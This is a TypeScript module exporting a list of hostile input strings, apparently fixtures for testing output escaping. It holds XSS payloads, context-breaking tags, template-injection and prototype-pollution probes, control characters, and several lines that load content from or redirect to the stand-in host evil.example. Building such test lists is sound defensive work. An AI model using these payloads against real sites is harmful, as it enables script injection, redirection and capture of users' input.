/** Hostile texts. */

/** Ends of every context that a page has, and what they would begin. */
export const attacks: readonly string[] = [
  '<script>alert(1)</script>',
  '</script><script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "' onmouseover='alert(1)",
  '` autofocus onfocus=alert(1) `',
  '</title><svg onload=alert(1)>',
  '</style><style>@import "//evil.example/x.css";</style>',
  '<!--',
  '--><iframe src=//evil.example>',
  ']]><b>',
  '<svg><animate onbegin=alert(1)>',
  '</text></svg><b>',
  '<base href=//evil.example>',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<form action=//evil.example><input name=q autofocus>',
  '</pre></div></section><h1>YES</h1>',
  '&lt;script&gt;&#x3c;b&#x3e;',
  'javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  '\u202eoi.t1t\u202c',
  '\0\u0007\u001b[31m\r\u2028\u2029\ufeff\u200b\ud800',
  '{{7*7}}${7*7}',
  '__proto__',
  '%s%n\\n\\',
];
